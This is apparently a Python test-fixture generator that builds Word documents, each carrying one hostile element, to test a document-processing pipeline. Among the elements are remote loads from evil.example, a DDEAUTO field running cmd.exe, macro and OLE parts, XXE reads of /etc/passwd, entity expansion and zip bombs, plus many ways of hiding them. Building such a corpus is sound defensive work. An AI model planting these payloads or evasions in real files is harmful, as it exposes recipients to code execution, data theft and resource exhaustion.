"""Word forms that reach outside, run something, are damaged or have no measure: kinds × writings × places, by code.

Each is an otherwise honest form with one evil thing in it. They are made the same in every run.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from itertools import cycle

from docx import Document

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "application/vnd.openxmlformats-officedocument.wordprocessingml."
_SPACES = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'
)
Parts = dict[str, bytes]


@dataclass(frozen=True)
class HostileForm:
    """One form. kind: what is evil about it; writing: how it is hidden; place: where it stands."""

    kind: str
    writing: str
    place: str
    content: bytes | Parts | list[tuple[str, bytes]]

    @property
    def data(self) -> bytes:
        """The file, packed when it is wanted."""
        return self.content if isinstance(self.content, bytes) else packed(self.content)

    @property
    def name(self) -> str:
        """How a test calls it."""
        return f"{self.kind}-{self.writing}-{self.place}"


# The honest form, with every part that may hold something.


def honest() -> bytes:
    """The form with nothing evil in it."""
    return packed(dict(_base()))


def packed_with(changed: Parts) -> bytes:
    """The honest form with some parts changed."""
    return packed(dict(_base()) | changed)


def placed_form(code: str, writing: str, place: str) -> bytes:
    """The honest form with a field in it."""
    parts = dict(_base())
    placed(parts, _field_runs(code, writing), place)
    return packed(parts)


@cache
def _base() -> tuple[tuple[str, bytes], ...]:
    document = Document()
    document.add_paragraph("{{ 検収ID }}")
    document.sections[0].header.paragraphs[0].text = "頭"
    document.sections[0].footer.paragraphs[0].text = "足"
    target = io.BytesIO()
    document.save(target)
    with zipfile.ZipFile(target) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for kind, item in (("footnotes", "footnote"), ("endnotes", "endnote"), ("comments", "comment")):
        body = f'<w:{kind} {_SPACES}><w:{item} w:id="1"><w:p/></w:{item}></w:{kind}>'
        _add(parts, f"word/{kind}.xml", body.encode(), f"{_OFFICE}{kind}+xml", kind)
    glossary = (
        f"<w:glossaryDocument {_SPACES}><w:docParts><w:docPart><w:docPartBody><w:p/></w:docPartBody></w:docPart>"
        "</w:docParts></w:glossaryDocument>"
    )
    _add(
        parts,
        "word/glossary/document.xml",
        glossary.encode(),
        f"{_OFFICE}document.glossary+xml",
        "glossaryDocument",
    )
    parts["word/webSettings.xml"] = f"<w:webSettings {_SPACES}/>".encode()
    _add(parts, "customXml/item9.xml", b"<x xmlns='urn:own'>a</x>", "application/xml", "customXml")
    for name, each in parts.items():
        if name.endswith((".xml", ".rels")) and b"<w:" in each:
            parts[name] = _with_spaces(each)
    return tuple(parts.items())


def _with_spaces(data: bytes) -> bytes:
    head, tag, rest = data.partition(b"<w:")
    name = rest.split(b">", 1)[0].split(b" ", 1)[0].split(b"/", 1)[0]
    wanted = [
        each
        for each in _SPACES.split(" ")
        if each.split("=", 1)[0].encode() + b"=" not in rest.split(b">", 1)[0]
    ]
    return head + tag + name + (" " + " ".join(wanted)).encode() + rest[len(name) :]


def _add(parts: Parts, name: str, data: bytes, content_type: str, kind: str) -> None:
    parts[name] = data
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", override.encode())
    _relate(parts, "word/document.xml", f'<Relationship Id="own{name}" Type="{R}/{kind}" Target="/{name}"/>')


def _rels_of(part: str) -> str:
    folder, _, base = part.rpartition("/")
    return f"{folder}/_rels/{base}.rels".lstrip("/")


def _relate(parts: Parts, part: str, relationship: str) -> None:
    name = _rels_of(part)
    empty = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"></Relationships>'.encode()
    text = parts.get(name, empty)
    parts[name] = text.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")


def packed(parts: Parts | list[tuple[str, bytes]]) -> bytes:
    """The archive of parts, duplicates too."""
    target = io.BytesIO()
    named: dict[str, zipfile.ZipInfo] = {}
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items() if isinstance(parts, dict) else parts:
            info = zipfile.ZipInfo(name if name not in named else f"\x01{name[1:]}")
            info.compress_type = zipfile.ZIP_DEFLATED
            named[name] = info
            archive.writestr(info, data)
    return target.getvalue().replace(b"\x01", b"w") if len(named) < len(parts) else target.getvalue()


def _utf16(data: bytes) -> bytes:
    text = data.decode("utf-8").split("?>", 1)[-1] if data.startswith(b"<?xml") else data.decode("utf-8")
    return ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")


# 1: addresses in relations.

_TARGETS = {
    "image": "http://evil.example/x.png", "attachedTemplate": "file:///C:/t.dotm", "oleObject": "file://host/x.xls",
    "package": "http://evil.example/x.xlsx", "frame": "http://evil.example/f.htm", "subDocument": "http://evil.example/s.docx",
    "aFChunk": "http://evil.example/c.htm", "mailMergeSource": "file:///C:/list.csv", "video": "http://evil.example/v.mp4",
    "header": "http://evil.example/h.xml", "customXml": "http://evil.example/i.xml", "font": "http://evil.example/f.ttf",
    "hyperlink-file": "file:///C:/run.exe", "hyperlink-unc": r"\\host\share\run.exe", "hyperlink-script": "javascript:alert(1)",
    "transform": "http://evil.example/t.xsl",
}  # fmt: skip
_OWNERS = (
    "word/document.xml", "word/settings.xml", "word/header1.xml", "word/footer1.xml", "word/footnotes.xml",
    "word/glossary/document.xml", "word/webSettings.xml", "customXml/item9.xml", "",
)  # fmt: skip


def _references(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" for c in text)


def _relationship(kind: str, target: str, writing: str) -> str:
    full = f"{R}/{kind.split('-')[0]}"
    return {
        "references": f'<Relationship Id="e" Type="{full}" Target="{_references(target)}" TargetMode="External"/>',
        "mode by references": f'<Relationship Id="e" Type="{full}" Target="{target}" TargetMode="{_references("External")}"/>',
        "prefix": f'<q:Relationship xmlns:q="{RELS}" Id="e" Type="{full}" Target="{target}" TargetMode="External"></q:Relationship>',
        "greater": f'<Relationship Id="e>" Type="{full}" Target="{target}" TargetMode="External"/>',
        "quotes": f"<Relationship\n Id = 'e'\n Type = '{full}' TargetMode\n=\n'External' Target = '{target}' />",
        "internal": f'<Relationship Id="e" Type="{full}" Target="{target}"/>',
    }.get(writing, f'<Relationship Id="e" Type="{full}" Target="{target}" TargetMode="External"/>')


def outside_relations() -> Iterator[HostileForm]:
    """Every type of relation in every writing, over all owners."""
    owners = cycle(_OWNERS)
    writings = (
        "plain",
        "references",
        "mode by references",
        "prefix",
        "greater",
        "quotes",
        "utf-16",
        "internal",
        "upper",
    )
    for kind, target in _TARGETS.items():
        for writing in writings:
            yield _related_form(kind, target, writing, next(owners))
    for owner in _OWNERS:
        for writing in writings:
            yield _related_form("attachedTemplate", "http://evil.example/t.dotm", writing, owner)


def _related_form(kind: str, target: str, writing: str, owner: str) -> HostileForm:
    parts = dict(_base())
    _relate(parts, owner, _relationship(kind, target, writing))
    name = _rels_of(owner)
    if writing == "utf-16":
        parts[name] = _utf16(parts[name])
    if writing == "upper":
        parts[name.replace(".rels", ".RELS")] = parts.pop(name)
    return HostileForm(f"関係 {kind}", writing, owner or "package", parts)


# 2: fields.

_CODES = {
    "DDEAUTO": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', "DDE": "DDE excel sheet a1",
    "INCLUDEPICTURE": 'INCLUDEPICTURE "http://evil.example/x.png" \\d', "INCLUDETEXT": 'INCLUDETEXT "C:\\\\x.docx"',
    "INCLUDE": 'INCLUDE "C:\\\\x.docx"', "LINK": "LINK Excel.Sheet.8 C:\\\\x.xls a1 \\a", "IMPORT": 'IMPORT "C:\\\\x.wmf"',
    "DATABASE": 'DATABASE \\d "C:\\\\x.mdb"', "RD": 'RD "C:\\\\x.docx"', "EMBED": "EMBED Excel.Sheet.8",
    "MACROBUTTON": "MACROBUTTON Run ここ", "AUTOTEXT": "AUTOTEXT x", "AUTOTEXTLIST": "AUTOTEXTLIST x",
    "CONTROL": "CONTROL Forms.CommandButton.1 \\s", "PRINT": 'PRINT "27"', "ADDIN": "ADDIN x",
    "HTMLACTIVEX": "HTMLACTIVEX x", "HYPERLINK": 'HYPERLINK "file:///C:/run.exe"',
    "HYPERLINK UNC": 'HYPERLINK "\\\\\\\\host\\\\share\\\\x.exe"', "HYPERLINK switch": 'HYPERLINK \\o "https://a.jp" "file:///x"',
}  # fmt: skip
_FIELD_PLACES = (
    "body",
    "cell",
    "header",
    "footer",
    "footnote",
    "endnote",
    "comment",
    "text box",
    "glossary",
    "sdt",
    "link",
)


def _instr(text: str, tag: str = "instrText") -> str:
    return f'<w:r><w:{tag} xml:space="preserve">{text}</w:{tag}></w:r>'


def _char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


def _field_runs(code: str, writing: str) -> str:
    begin, separate, end = _char("begin"), _char("separate"), f"<w:r><w:t>x</w:t></w:r>{_char('end')}"
    text, half = _escaped(code), len(code) // 3
    quote = f"{begin}{_instr('QUOTE ' + _escaped(code[:2]))}{separate}<w:r><w:t>{_escaped(code[:2])}</w:t></w:r>{_char('end')}"
    return {
        "fldSimple": f'<w:fldSimple w:instr="{text}"><w:r><w:t>x</w:t></w:r></w:fldSimple>',
        "fldSimple by references": f'<w:fldSimple w:instr="{_references(code)}"/>',
        "instrText": begin + _instr(text) + separate + end,
        "one run": f'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{text}</w:instrText><w:fldChar w:fldCharType="end"/></w:r>',
        "split": begin + "".join(_instr(_escaped(c)) for c in code) + separate + end,
        "paragraphs": f"{begin}{_instr(_escaped(code[:half]))}</w:p><w:p>{_instr(_escaped(code[half:]))}{separate}{end}",
        "lower": begin
        + _instr(text.lower().replace("http://evil.example", "http://EVIL.example"))
        + separate
        + end,
        "references": begin + _instr(_references(code)) + separate + end,
        "cdata": begin + _instr(f"<![CDATA[{code}]]>") + separate + end,
        "deleted": f'<w:del w:id="1" w:author="x">{begin}{_instr(text, "delInstrText")}{separate}{end}</w:del>',
        "tracked": f'{begin}<w:ins w:id="1" w:author="x">{_instr("PAGE ")}</w:ins><w:del w:id="2" w:author="x">{_instr(text, "delInstrText")}</w:del>{separate}{end}',
        "nested name": begin + quote + _instr(_escaped(code[2:])) + separate + end,
        "nested inside": begin + _instr("IF 1 = 1 ") + begin + _instr(text) + separate + end + separate + end,
        "branch": f'{begin}<mc:AlternateContent><mc:Choice Requires="wps">{_instr("PAGE ")}</mc:Choice><mc:Fallback>{_instr(text)}</mc:Fallback></mc:AlternateContent>{separate}{end}',
        "unfinished": begin + _instr(text),
        "text in code": f'{begin}<w:r><w:t xml:space="preserve">{_escaped(code[:half])}</w:t></w:r>{_instr(_escaped(code[half:]))}{separate}{end}',
        "quoted": begin
        + _instr(f" &quot;{_escaped(code[:3])}")
        + _instr(_escaped(code[3:]))
        + separate
        + end,
        "tag": begin + _instr("{{ '" + code[:2] + "' }}" + _escaped(code[2:])) + separate + end,
        "choice tag": begin
        + _instr("{% if 1 %}" + _escaped(code[:2]) + "{% endif %}" + _escaped(code[2:]))
        + separate
        + end,
    }.get(writing, begin + _instr(text) + separate + end)


_FIELD_WRITINGS = (
    "fldSimple", "fldSimple by references", "instrText", "one run", "split", "paragraphs", "lower", "references", "cdata",
    "deleted", "tracked", "nested name", "nested inside", "branch", "unfinished", "text in code", "quoted", "tag",
    "choice tag", "utf-16", "prefix",
)  # fmt: skip


def placed(parts: Parts, runs: str, place: str) -> str:
    """Put runs into a part; its name."""
    part = {
        "header": "word/header1.xml", "footer": "word/footer1.xml", "footnote": "word/footnotes.xml",
        "endnote": "word/endnotes.xml", "comment": "word/comments.xml", "glossary": "word/glossary/document.xml",
    }.get(place, "word/document.xml")  # fmt: skip
    paragraph = f"<w:p>{runs}</w:p>"
    wrapped = {
        "cell": f'<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w="900"/></w:tblGrid><w:tr><w:tc>{paragraph}</w:tc></w:tr></w:tbl>',
        "sdt": f"<w:sdt><w:sdtContent>{paragraph}</w:sdtContent></w:sdt>",
        "link": f'<w:p><w:hyperlink w:anchor="a">{runs}</w:hyperlink></w:p>',
        "text box": f"<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>{paragraph}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
    }.get(place, paragraph)
    data = parts[part]
    for mark in (b"<w:body>", b'w:id="1">', b"<w:docPartBody>"):
        if mark in data:
            parts[part] = data.replace(mark, mark + wrapped.encode(), 1)
            return part
    at = data.index(b"<w:p>") if b"<w:p>" in data else data.index(b"<w:p ")
    parts[part] = data[:at] + wrapped.encode() + data[at:]
    return part


def fields() -> Iterator[HostileForm]:
    """Every field in every writing, over all places."""
    places = cycle(_FIELD_PLACES)
    for kind, code in _CODES.items():
        for writing in _FIELD_WRITINGS:
            place = next(places)
            parts = dict(_base())
            name = placed(parts, _field_runs(code, writing), place)
            if writing == "utf-16":
                parts[name] = _utf16(parts[name])
            if writing == "prefix":
                parts[name] = parts[name].replace(b"<w:", b"<q:").replace(b"</w:", b"</q:").replace(b" w:", b" q:").replace(b"xmlns:w=", b"xmlns:q=")  # fmt: skip
            yield HostileForm(f"フィールド {kind}", writing, place, parts)


# 3: elements and parts that load or run.

_ELEMENTS = {
    "altChunk": '<w:altChunk r:id="own9"/>', "subDoc": '<w:subDoc r:id="own9"/>',
    "object": '<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="own9"/></w:object></w:r>',
    "control": '<w:r><w:object><w:control r:id="own9" w:name="x"/></w:object></w:r>',
    "entryMacro": '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Run"/></w:ffData></w:fldChar></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
    "webVideo": '<w:r><w:drawing><wp15:webVideoPr embeddedHtml="&lt;iframe src=http://evil.example&gt;"/></w:drawing></w:r>',
    "VML src": '<w:r><w:pict><v:shape><v:imagedata src="http://evil.example/x.png"/></v:shape></w:pict></w:r>',
    "VML o:href": '<w:r><w:pict><v:shape><v:imagedata o:href="file:///x.png"/></v:shape></w:pict></w:r>',
    "VML fill": '<w:r><w:pict><v:rect><v:fill src="http://evil.example/x.png"/></v:rect></w:pict></w:r>',
    "VML link": '<w:r><w:pict><v:shape href="file:///C:/x.exe"/></w:pict></w:r>',
    "action": '<w:r><w:drawing><wp:inline><wp:docPr id="1" name="x"><a:hlinkClick r:id="" action="ppaction://program"/></wp:docPr></wp:inline></w:drawing></w:r>',
}  # fmt: skip
_IN_SETTINGS = {
    "mailMerge": '<w:mailMerge><w:dataType w:val="odbc"/><w:connectString w:val="DSN=x"/></w:mailMerge>',
    "attachedTemplate": '<w:attachedTemplate r:id="x"/>', "saveThroughXslt": '<w:saveThroughXslt r:id="x"/>',
    "schema": '<s:schemaLibrary xmlns:s="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><s:schema s:uri="u" s:manifestLocation="http://evil.example/m.xml"/></s:schemaLibrary>',
}  # fmt: skip
_PARTS = {
    "vbaProject": ("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"x"),
    "activeX": ("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", b"<a/>"),
    "activeX bin": ("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX", b"x"),
    "oleObject": ("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", b"\xd0\xcf\x11\xe0x"),
    "package": ("word/embeddings/book.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"PK\x03\x04"),
    "program as picture": ("word/media/p.png", "image/png", b"MZ\x90\x00"),
    "aFChunk": ("word/chunk.htm", "text/html", b"<html/>"), "aFChunk rtf": ("word/chunk.rtf", "application/rtf", b"{\\rtf1}"),
    "svg script": ("word/media/a.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    "svg image": ("word/media/a.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:k="http://www.w3.org/1999/xlink"><image k:href="http://evil.example/x.png"/></svg>'),
    "svg style": ("word/media/a.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "http://evil.example/x.css"</style></svg>'),
    "svg url": ("word/media/a.png", "image/png", b'<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(http://evil.example/a)"/></svg>'),
    "extensibility": ("customUI/customUI.xml", "application/xml", b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Run"/>'),
    "keyMapCustomizations": ("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", b"<w/>"),
    "attachedToolbars": ("word/attachedToolbars.bin", "application/vnd.ms-word.attachedToolbars", b"x"),
    "webextension": ("word/webextensions/w.xml", "application/vnd.ms-office.webextension+xml", b"<w/>"),
    "flat package": ("customXml/item8.xml", "application/xml", b"<x>&lt;pkg:package xmlns:pkg='http://schemas.microsoft.com/office/2006/xmlPackage'/></x>"),
    "include": ("customXml/item8.xml", "application/xml", b'<x><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></x>'),
}  # fmt: skip


def elements() -> Iterator[HostileForm]:
    """Everything that loads or runs and is no field, in two encodings."""
    places = cycle(_FIELD_PLACES[:9])
    for writing in ("plain", "utf-16"):
        for kind, xml in _ELEMENTS.items():
            place, parts = next(places), dict(_base())
            name = placed(parts, xml, place)
            yield _written_form(f"要素 {kind}", writing, place, parts, name)
        for kind, xml in _IN_SETTINGS.items():
            parts = dict(_base())
            parts["word/settings.xml"] = parts["word/settings.xml"].replace(
                b"</w:settings>", xml.encode() + b"</w:settings>"
            )
            yield _written_form(f"設定 {kind}", writing, "settings", parts, "word/settings.xml")
        parts = dict(_base())
        parts["word/webSettings.xml"] = (
            f"<w:webSettings {_SPACES}><w:frameset><w:frame/></w:frameset></w:webSettings>".encode()
        )
        yield _written_form("設定 frameset", writing, "webSettings", parts, "word/webSettings.xml")
    for kind, (name, content_type, data) in _PARTS.items():
        for owner in ("word/document.xml", "word/header1.xml"):
            parts = dict(_base())
            _add(parts, name, data, content_type, kind.split(" ")[0])
            _relate(parts, owner, f'<Relationship Id="z" Type="{R}/{kind.split(" ")[0]}" Target="/{name}"/>')
            yield HostileForm(f"部品 {kind}", "plain", owner, parts)


def _written_form(kind: str, writing: str, place: str, parts: Parts, name: str) -> HostileForm:
    if writing == "utf-16":
        parts[name] = _utf16(parts[name])
    return HostileForm(kind, writing, place, parts)


# 4: declarations and damage.

_DAMAGED = (
    "word/document.xml", "word/settings.xml", "word/styles.xml", "word/header1.xml", "word/footnotes.xml",
    "word/numbering.xml", "word/comments.xml", "word/_rels/document.xml.rels", "_rels/.rels", "[Content_Types].xml",
    "docProps/core.xml", "docProps/app.xml", "word/theme/theme1.xml", "customXml/item9.xml",
)  # fmt: skip
_LAUGHS = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>'


def _declared(data: bytes, declaration: bytes) -> bytes:
    head, mark, rest = data.partition(b"?>") if data.startswith(b"<?xml") else (b"", b"", data)
    return head + mark + declaration + rest


def _broken(data: bytes) -> dict[str, bytes]:
    return {
        "empty": b"", "cut": data[: len(data) // 2], "nul": data.replace(b"<", b"\0<", 3), "text": "ただの文".encode(),
        "other root": b"<a><b/></a>", "random": bytes(range(256)), "DOCTYPE": _declared(data, b"<!DOCTYPE x>"),
        "late DOCTYPE": _declared(data, b"<!--" + b" " * 70_000 + b"-->" + _LAUGHS),
        "entity": _declared(data, b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>').replace(b"</", b"&e;</", 1),
        "utf-32": data.decode("utf-8").split("?>", 1)[-1].encode("utf-32"),
        "ibm037": b'<?xml version="1.0" encoding="ibm037"?><a/>',
        "deep": b"<a>" * 5_000 + b"</a>" * 5_000,
    }  # fmt: skip


def damage() -> Iterator[HostileForm]:
    """Every part damaged in every way, and the archive itself."""
    for name in _DAMAGED:
        for writing, data in _broken(dict(_base())[name]).items():
            yield HostileForm("部品の破損", writing, name, dict(_base()) | {name: data})
        missing = dict(_base())
        missing.pop(name)
        yield HostileForm("部品の破損", "missing", name, missing)
        twice = [*_base(), (name, dict(_base())[name])]
        if name.startswith("word/"):
            yield HostileForm("部品の重複", "same name", name, twice)
        yield HostileForm("部品の重複", "other case", name, dict(_base()) | {name.upper(): b"<a/>"})
    whole = packed(dict(_base()))
    for writing, data in {
        "half": whole[: len(whole) // 2], "no directory": whole[:-22], "crc": _flipped(whole), "two halves": whole + whole[:99],
        "lying size": _lying(),
    }.items():  # fmt: skip
        yield HostileForm("書庫の破損", writing, "zip", data)
    for at, (writing, change) in enumerate(_PROPERTIES.items()):
        parts = dict(_base())
        parts["docProps/core.xml"] = parts["docProps/core.xml"].replace(*change)
        yield HostileForm("プロパティ", writing, f"core {at}", parts)


_PROPERTIES = {
    "bad date": (b"2013-12-23", b"13-77-99"),
    "huge revision": (b"<cp:revision>", b"<cp:revision>9999999999999999"),
    "other root": (b"coreProperties", b"other"),
    "letters": (b"<cp:revision>", b"<cp:revision>x"),
}


def _flipped(data: bytes) -> bytes:
    at = len(data) // 3
    return data[:at] + bytes([data[at] ^ 255]) + data[at + 1 :]


def _lying() -> bytes:
    import struct

    data = bytearray(packed(dict(_base()) | {"word/media/z.png": b"a" * 50_000}))
    at = data.rindex(b"word/media/z.png") - 46 + 24
    struct.pack_into("<I", data, at, 5)
    return bytes(data)


# 5: without measure.


def _body(xml: str) -> bytes:
    parts = dict(_base())
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>", b"<w:body>" + xml.encode(), 1
    )
    return packed(parts)


def _line(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


_CELL = '<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w="900"/></w:tblGrid><w:tr><w:tc><w:tcPr></w:tcPr>{}</w:tc></w:tr></w:tbl>'


def without_measure(writing: str) -> HostileForm:
    """A form that asks for time or memory without end, to be tried in a process of its own."""
    return HostileForm("際限なし", writing, "body", MEASURES_WITHOUT_END[writing]())


def _many_parts(count: int, kind: str) -> bytes:
    parts = dict(_base())
    xml = "".join(f'<Relationship Id="h{n}" Type="{R}/{kind}" Target="header1.xml"/>' for n in range(count))
    _relate(parts, "word/document.xml", xml)
    return packed(parts)


MEASURES_WITHOUT_END = {
    "300,000 paragraphs": lambda: _body("<w:p/>" * 300_000), "20,000 paragraphs": lambda: _body(_line("文") * 19_900),
    "1,000,000 runs": lambda: _body(f"<w:p>{'<w:r/>' * 1_000_000}</w:p>"), "40,000 tags": lambda: _body(_line("{{ 検収ID }}") * 40_000),
    "5,000 tags": lambda: _body(_line("{{ 検収ID }}") * 4_900), "unclosed": lambda: _body(_line("{{ " * 50_000)),
    "closed first": lambda: _body(_line("}} {{" * 50_000)), "long tag": lambda: _body(_line("{{ '" + "x" * 2_000_000 + "' }}")),
    "spaces in colspan": lambda: _body(_CELL.format(_line("{% colspan" + " " * 20_000 + "% x %}"))),
    "vm cell": lambda: _body(_CELL.format(_line("{% vm %}") + _line("x") * 3_000)),
    "attributes": lambda: _body("<w:p " + " ".join(f"a{n}='1'" for n in range(200_000)) + "/>"),
    "braces": lambda: _body(_line("{" + "</w:t></w:r><w:r><w:t>" * 60_000)), "tables": lambda: _body(_CELL.format("<w:p/>") * 60_000),
    "nested tables": lambda: _body("<w:tbl>" * 100 + "</w:tbl>" * 100),
    "bomb": lambda: packed(dict(_base()) | {"word/media/b.png": bytes(140_000_000)}),
    "xml bomb": lambda: packed(dict(_base()) | {"customXml/item9.xml": b"<a>" + b" " * 140_000_000 + b"</a>"}),
    "many bombs": lambda: packed(dict(_base()) | {f"word/media/{n}.png": bytes(9_000_000) for n in range(30)}),
    "parts": lambda: packed(dict(_base()) | {f"customXml/i{n}.xml": b"<a/>" for n in range(9_000)}),
    "headers": lambda: _many_parts(3_000, "header"), "relations": lambda: _many_parts(100_000, "styles"),
    "loops": lambda: _body(_line("{% for a in 案件名 %}" * 9 + "{% endfor %}" * 9)),
    "nested blocks": lambda: _body(_line("{% for a in 案件名 %}" * 60 + "{% endfor %}" * 60)),
    "heavy loops": lambda: _body(_line("{% for a in 案件名 %}{% for b in 案件名 %}{% for c in 案件名 %}{% if (案件名|replace('', '" + "x" * 1_900 + "')|upper|lower|length) > 1 %}{% endif %}{% endfor %}{% endfor %}{% endfor %}")),
    "growing text": lambda: _body(_line("{% for a in 案件名 %}" * 4 + "x" * 20_000 + "{% endfor %}" * 4)),
    "sections": lambda: _body("<w:p><w:pPr><w:sectPr/></w:pPr></w:p>" * 15_000),
    "sentence": lambda: _body(_line("x" * 12_000_000)), "filters": lambda: _body(_line("{{ 検収ID" + "|upper" * 300 + " }}")),
    "brackets": lambda: _body(_line("{{ " + "(" * 900 + "検収ID" + ")" * 900 + " }}")),
    "signs": lambda: _body(_line("{{ " + "-" * 1_900 + "1 }}")), "dots": lambda: _body(_line("{{ a" + ".b" * 900 + " }}")),
    "caption without a name": lambda: _body("<w:p>" + _field_runs("SEQ", "instrText") + "</w:p>"),
    "table without a grid": lambda: _body("<w:tbl><w:tr><w:trPr><w:tblHeader/></w:trPr><w:tc><w:p/></w:tc></w:tr></w:tbl>"),
    "odd grid": lambda: _body('<w:tbl><w:tblGrid><w:gridCol w:w="x"/></w:tblGrid><w:tr><w:tc><w:tcPr><w:gridSpan w:val="y"/></w:tcPr><w:p/></w:tc><w:tc/></w:tr></w:tbl>'),
    "contents without an end": lambda: _body('<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr></w:p>' + _line("x") + "<w:r><w:instrText>TOC</w:instrText></w:r>"),
    "row beyond paragraphs": lambda: _body(_CELL.format(_line("{%tr for a in 案件名 %}")) + _line("{%tr endfor %}")),
}  # fmt: skip


def all_quick() -> Iterator[HostileForm]:
    """Every form that is judged at once."""
    yield from outside_relations()
    yield from fields()
    yield from elements()
    yield from damage()
